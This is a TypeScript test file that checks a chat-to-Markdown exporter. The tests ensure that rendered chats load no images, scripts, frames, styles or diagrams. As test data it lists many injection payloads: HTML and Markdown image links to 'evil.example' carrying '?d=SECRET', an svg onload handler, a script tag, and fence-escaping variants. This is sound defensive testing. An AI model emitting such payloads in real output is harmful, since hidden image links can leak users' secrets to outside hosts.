// Chats as Markdown documents: what people read, and nothing that a previewer would load or run, whatever is in the chat.
import fc from 'fast-check';
import createMarkdown from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { chatMarkdown } from '../../../src/chat/chatMarkdown.ts';
import type { TurnError } from '../../../src/shared/failure.ts';
import type { ChatTree } from '../../../src/shared/history.ts';

/** As VS Code's preview and others render: with HTML, addresses as links, and formulas, of which nothing is drawn here. */
const previewer = createMarkdown({ html: true, linkify: true });
previewer.inline.ruler.after('escape', 'formula', (state) => {
  const end = state.src.indexOf('$', state.pos + 1);
  if (state.src[state.pos] !== '$' || end === -1) {
    return false;
  }
  state.pos = end + 1;
  return true;
});
previewer.block.ruler.before('fence', 'formulas', (state, startLine, endLine) => {
  const lineAt = (line: number): string => state.src.slice(state.bMarks[line], state.eMarks[line]).trim();
  if (!lineAt(startLine).startsWith('$$')) {
    return false;
  }
  let line = startLine + 1;
  while (line < endLine && !lineAt(line).endsWith('$$')) {
    line += 1;
  }
  state.line = Math.min(line + 1, endLine);
  return true;
});

function chatOf(
  text: string,
  change: { title?: string; label?: string; language?: string; reasoning?: string } = {},
): ChatTree {
  const { title = 'Rivers', label = 'a.js', language = 'js', reasoning = '' } = change;
  const attachment = {
    ...({ id: 'x', kind: 'selection', label, uri: 'file:///a.js', languageId: language } as const),
    ...{ startLine: 1, endLine: 2, text },
  };
  const stored = { createdAt: 1_000, isGrowing: false };
  return {
    summary: { id: 'c', title, model: title, isPinned: false, createdAt: 1_000, updatedAt: 1_000 },
    messages: [
      { message: { id: 'q', role: 'user', text, attachments: [attachment] }, parentId: undefined, ...stored },
      {
        message: {
          ...({ id: 'a', role: 'assistant', model: title, text, reasoning, status: 'failed' } as const),
          error: { kind: 'server', detail: title, actions: [] },
        },
        ...{ parentId: 'q', ...stored },
      },
    ],
    leafId: 'a',
  };
}

/** The tags that a previewer makes of the text, without those that can load nothing. */
function tagsIn(markdown: string): readonly string[] {
  const harmless = /^(?:p|h[1-6]|ul|ol|li|blockquote|pre|code|em|strong|s|a|hr|br|table|thead|tbody|tr|th|td)$/;
  const html = previewer.render(markdown);
  return [...html.matchAll(/<([a-z!?][\w-]*)/gi)].map(([, tag = '']) => tag).filter((tag) => !harmless.test(tag));
}

const answerOf = (markdown: string): string => markdown.split('## Rivers\n\n').at(-1)?.trimEnd() ?? '';

const words = { you: 'You', describeError: ({ detail = '' }: TurnError): string => detail };

describe('a chat as Markdown', () => {
  // Rows: T1, T2, T9
  it.each([
    '![x](https://evil.example/p.png?d=SECRET)',
    '![x][ref]\n\n[ref]: https://evil.example/p.png',
    '[![x](https://evil.example/p.png)](https://evil.example)',
    '<img src="https://evil.example/p.png">',
    '<svg onload=alert(1)>',
    'text <b\n>old <iframe src=https://evil.example></iframe>',
    '<!-- a --> <script>alert(1)</script>',
    '<style>@import "https://evil.example/a.css"</style>',
    '- a\n  ```\n  code\n<img src=https://evil.example/p.png>\n```',
    'an ` open mark\n\n<img src=https://evil.example/p.png> ` b',
    'a ` b\nc ` <img src=https://evil.example/p.png> ` d',
    '| `a <img src=https://evil.example/p.png> | b` |\n|---|---|\n| `a <img src=https://evil.example/p.png> | b` |',
    '> ```\n<img src=https://evil.example/p.png>\n> ```',
    '    indented\n<img src=https://evil.example/p.png>',
    '```\nnever closed\n\n<img src=https://evil.example/p.png>',
    '\\`<img src=https://evil.example/p.png>\\`',
    '`` ` `` <img src=https://evil.example/p.png> ```',
    '~~~ `\n<img src=https://evil.example/p.png>\n~~~\n<img src=https://evil.example/p.png>',
    '```a`b\n<img src=https://evil.example/p.png>\n```',
    'http://a.test/`<img src=https://evil.example/p.png>`',
    'www.a.test/`x` and `<img src=https://evil.example/p.png>`',
    'a@b.test/\\!`1. <img src=https://evil.example/p.png> `',
    '[a](/x "` ") <img src=https://evil.example/p.png> `',
    '[a](/x "\n` ") <img src=https://evil.example/p.png> `',
    '[a](/x "q) ` <img src=https://evil.example/p.png> `")',
    '$ ` $ <img src=https://evil.example/p.png> `',
    '$$\n```\n$$\n<img src=https://evil.example/p.png>\n```',
    'a\n2. ```\n<img src=https://evil.example/p.png>\n```',
    'x\n\n[a]: <https://evil.example\n"\n```\n<img src=https://evil.example/p.png>',
    '1. a\n\n   ~~~\n   b\n\n2. <img src=https://evil.example/p.png>\n\n   ~~~',
  ])('loads nothing of %j', (text) => {
    expect(tagsIn(chatMarkdown(chatOf(text), words))).toEqual([]);
    expect(tagsIn(chatMarkdown(chatOf('', { reasoning: text }), words))).toEqual([]);
    expect(tagsIn(chatMarkdown(chatOf('text', { title: text, label: text, language: text }), words))).toEqual([]);
  });

  // Rows: T2, T9
  it('loads nothing of any text that is put together from marks', () => {
    const evil = ['<img src=https://evil.example/p.png>', '![x](https://evil.example/p.png)', '![x][r]', '<svg>', '<x'];
    const marks = [
      '`',
      '``',
      '```',
      '````',
      '~~~',
      '\n',
      '\n\n',
      '  ',
      '    ',
      '\t',
      '- ',
      '1. ',
      '> ',
      '| ',
      '|',
      '\\',
      '# ',
    ];
    const others = [
      'a',
      'js',
      '[r]: /x',
      '---\n',
      '|-|-|\n',
      '[',
      '](',
      ')',
      '"',
      '&lt;',
      '*',
      '<!--',
      '-->',
      '=',
      '\r\n',
      '!',
      '$',
      '$$',
      ':::',
      '~',
    ];
    const texts = fc.array(fc.constantFrom(...evil, ...marks, ...marks, ...others), { maxLength: 40 });
    fc.assert(
      fc.property(texts, (pieces) => {
        const text = pieces.join('');
        expect(tagsIn(chatMarkdown(chatOf(text, { reasoning: text }), words))).toEqual([]);
      }),
      { numRuns: 3_000 },
    );
  });

  // Rows: T7
  it('draws no diagram, which may load pictures: its code is code', () => {
    const diagram = 'flowchart\n  A@{ img: "https://evil.example/p.png" }';
    const text = `\`\`\`Mermaid\n${diagram}\n\`\`\`\n\n:::mermaid\n${diagram}\n:::`;
    const tokens = previewer.parse(chatMarkdown(chatOf(text, { language: 'mermaid' }), words), {});
    expect(tokens.filter(({ type }) => type === 'fence').map(({ info }) => info)).toEqual(['text', 'text', 'text']);
    expect(tokens.filter(({ content }) => content.startsWith(':::'))).toEqual([]);
    expect(tokens.filter(({ content }) => content.startsWith('\\:::mermaid'))).toHaveLength(2);
  });

  it.each(['mer{maid', 'mermaid,', 'x.mermaid', 'MERMAID-x', 'me"rmaid'])(
    'draws none of a language that is written %j, which becomes one or is taken for one',
    (language) => {
      const markdown = chatMarkdown(chatOf(`\`\`\`${language}\nflowchart\n\`\`\``, { language }), words);
      const fences = previewer.parse(markdown, {}).filter(({ type }) => type === 'fence');
      expect(fences.map(({ info }) => info)).toEqual(['text', 'text', 'text']);
    },
  );

  it('is written at once, whatever marks are in a line', () => {
    for (const part of ['``\\', '\\`', '`', '<', '![', '](', '`a``b```', '`|', '$', '\\']) {
      const startedAt = performance.now();
      chatMarkdown(chatOf(part.repeat(60_000 / part.length)), words);
      expect([part, performance.now() - startedAt < 3_000]).toEqual([part, true]);
    }
  });

  it.each([
    ['prose', 'Use **bold**, `code`, *more* and [a link](https://example.com).\n\n1. one\n2. two'],
    ['generics in code', 'Call `Map<string, number>` and `<div>`.'],
    ['a block', 'So:\n\n```ts\nconst a: Array<number> = [];\n// ![x](y)\n```\n\nDone.'],
    ['a longer fence', '````md\n```js\n<b>\n```\n````'],
    ['a table', '| a | b |\n|---|---|\n| `<x>` | 2 |'],
    ['escapes', 'A \\< b, \\`not code\\`, 1 \\* 2'],
    ['a quote', '> said\n> so'],
  ])('leaves %s as it is', (_what, text) => {
    expect(answerOf(chatMarkdown(chatOf(text), words)).replace(/\n\n\*Rivers\*$/, '')).toBe(text);
  });

  it('shows what it escapes as it was', () => {
    const html = previewer.render(
      answerOf(chatMarkdown(chatOf('If a <b and b> c: ![x](https://example.com/)'), words)),
    );
    expect(html).toContain('If a &lt;b and b&gt; c: !<a href="https://example.com/">x</a>');
  });

  it('keeps code of a list as code', () => {
    const text =
      '1. First:\n\n   ```bash\n   npm i <name>\n   ```\n\n2. Then:\n    ```js\n    a <b> c\n    ```\n- ```py\n  x = "<b>"\n  ```';
    const html = previewer.render(answerOf(chatMarkdown(chatOf(text), words)));
    expect(html).toContain('<code class="language-bash">npm i &lt;name&gt;\n</code>');
    expect(html).toContain('<code class="language-js">a &lt;b&gt; c\n</code>');
    expect(html).toContain('<code class="language-py">x = &quot;&lt;b&gt;&quot;\n</code>');
  });

  it('holds a block of a million lines', () => {
    const text = `\`\`\`\n${'x\n'.repeat(1_000_000)}\`\`\`\n`;
    expect(chatMarkdown(chatOf(text), words).includes(text)).toBe(true);
  });

  // Rows: T45
  it('is made at once, however many backticks are in a line', () => {
    const growing = Array.from({ length: 1_600 }, (_, index) => '`'.repeat(index + 1)).join(' ');
    for (const line of [growing, '` `` '.repeat(100_000), `\`${'`` '.repeat(200_000)}`, `](${'a'.repeat(500_000)}`]) {
      const startedAt = performance.now();
      chatMarkdown(chatOf(line), words);
      expect([line.slice(0, 9), performance.now() - startedAt < 3_000]).toEqual([line.slice(0, 9), true]);
    }
  });
});
